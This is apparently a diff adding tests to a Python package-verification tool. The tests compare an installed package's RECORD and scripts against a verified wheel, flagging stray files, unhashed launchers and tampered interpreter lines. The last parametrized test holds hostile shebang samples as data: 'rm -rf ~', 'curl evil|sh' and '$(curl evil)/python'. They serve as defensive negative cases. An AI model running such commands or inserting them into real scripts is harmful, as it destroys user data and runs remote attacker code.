@@ -6,6 +6,7 @@ from __future__ import annotations
 import asyncio
 import hashlib
 import io
+import os
 import zipfile
 from pathlib import Path
 
@@ -16,7 +17,9 @@ from pyvouch.errors import IndexLookupError, OfflineMiss
 from pyvouch.index.client import IndexClient
 from pyvouch.index.simple import IndexFile
 from pyvouch.installed.check import matching_wheel
+from pyvouch.installed.compare import compare
 from pyvouch.installed.fetch import verified_wheel
+from pyvouch.installed.files import check_files, listed_in
 from pyvouch.installed.record import RecordUnavailable, decode_digest, read_record
 from pyvouch.installed.wheel import Limits, WheelProblem, read_wheel
 from tests.support.index_servers import Reply, serve
@@ -184,3 +187,101 @@ def test_download_retries_and_checks_the_digest(tmp_path: Path) -> None:
             _fetch(server.url("/gone.whl"), digest)
         with pytest.raises(OfflineMiss):
             _fetch(server.url("/w.whl"), digest, offline=True)
+
+
+# -- the comparison, on a hand-made installation --------------------------------------------
+
+
+def _install(root: Path, files: dict[str, bytes], extra_rows: tuple[str, ...] = ()) -> Path:
+    """Write ``files`` (paths relative to ``root/lib/site-packages``) and a RECORD."""
+    site = root / "lib" / "site-packages"
+    rows = []
+    for rel, data in files.items():
+        path = Path(os.path.normpath(site / rel))
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+        rows.append(f"{rel},sha256={b64(hashlib.sha256(data).digest())},{len(data)}")
+    info = site / "x-1.0.dist-info"
+    info.mkdir(parents=True, exist_ok=True)
+    (info / "RECORD").write_text("\n".join([*rows, *extra_rows, "x-1.0.dist-info/RECORD,,"]))
+    return info
+
+
+def _compare(info: Path, wheel: dict[str, bytes]) -> list[str]:
+    record = read_record(info)
+    local = check_files(record, listed_in(record.site))
+    manifest = read_wheel(zipped(wheel), "x-1.0-py3-none-any.whl")
+    return [str(d) for d in (*local.differences, *compare(local, manifest))]
+
+
+def test_platlib_beside_purelib_and_launchers(tmp_path: Path) -> None:
+    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
+    eps = {"x-1.0.dist-info/entry_points.txt": b"[gui_scripts]\nx-gui = x:main\n"}
+    wheel = {**meta, **eps, "x.py": b"X\n", "x-1.0.data/platlib/x_fast.py": b"F\n"}
+    info = _install(
+        tmp_path,
+        {
+            **meta,
+            **eps,
+            "x.py": b"X\n",
+            "../../lib64/site-packages/x_fast.py": b"F\n",  # platlib is another directory
+            "../../bin/x-gui.exe": b"launcher",
+            "../../bin/x-gui-script.pyw": b"launcher",
+        },
+    )
+    assert _compare(info, wheel) == []
+    # a launcher for a name that is no entry point, or one without a hash, is a difference
+    info = _install(tmp_path / "b", {**meta, **eps, "x.py": b"X\n", "../../bin/x-cli": b"l"})
+    assert _compare(info, {**wheel, "x-1.0.data/platlib/x_fast.py": b"F\n"}) == [
+        "x-1.0.data/platlib/x_fast.py (in the verified wheel, but not in RECORD)",
+        "../../bin/x-cli (in RECORD, but not in the verified wheel)",
+    ]
+    info = _install(tmp_path / "c", {**meta, **eps, "x.py": b"X\n"}, ("../../bin/x-gui,,",))
+    (tmp_path / "c" / "bin").mkdir()
+    (tmp_path / "c" / "bin" / "x-gui").write_bytes(b"anything")
+    assert _compare(info, {**meta, **eps, "x.py": b"X\n"}) == [
+        "../../bin/x-gui (in RECORD without a hash)"
+    ]
+
+
+def test_pyc_is_allowed_only_beside_a_source_of_the_wheel(tmp_path: Path) -> None:
+    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
+    info = _install(
+        tmp_path,
+        {**meta, "x.py": b"X\n"},
+        ("__pycache__/x.cpython-311.pyc,,", "__pycache__/evil.cpython-311.pyc,,"),
+    )
+    assert _compare(info, {**meta, "x.py": b"X\n"}) == [
+        "__pycache__/evil.cpython-311.pyc (in RECORD, but not in the verified wheel)"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("installed", "same"),
+    [
+        (b"#!/venv/bin/python\nprint(1)\n", True),
+        (b"#!/opt/pypy/bin/pypy3.10\r\nprint(1)\n", True),
+        (b"#!/usr/bin/env python3\nprint(1)\n", True),
+        (b"#!/bin/sh\n'''exec' \"/a b/python\" \"$0\" \"$@\"\n' '''\nprint(1)\n", True),
+        (
+            b"#!/bin/sh\n'''exec' \"$(dirname -- \"$(realpath -- \"$0\")\")\"/'python' "
+            b"\"$0\" \"$@\"\n' '''\nprint(1)\n",
+            True,
+        ),
+        (b"#!/bin/sh\nprint(1)\n", False),  # the shell would run the body
+        (b"#!/usr/bin/perl\nprint(1)\n", False),
+        (b"#!/bin/sh\n'''exec' /x \"$0\"\nrm -rf ~\nprint(1)\n", False),
+        (b"#!/bin/sh\n'''exec' curl evil|sh; python \"$0\" \"$@\"\n' '''\nprint(1)\n", False),
+        (b"#!/bin/sh\n'''exec' $(curl evil)/python \"$0\" \"$@\"\n' '''\nprint(1)\n", False),
+        (b"print(1)\n", False),
+        (b"#!/venv/bin/python\nprint(2)\n", False),
+    ],
+)
+def test_rewritten_interpreter_line(tmp_path: Path, installed: bytes, same: bool) -> None:
+    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
+    wheel = {**meta, "x-1.0.data/scripts/run": b"#!python\nprint(1)\n"}
+    info = _install(tmp_path, {**meta, "../../bin/run": installed})
+    differences = _compare(info, wheel)
+    assert differences == ([] if same else [
+        "../../bin/run (differs from the verified wheel's script after its #! line)"
+    ])  # fmt: skip
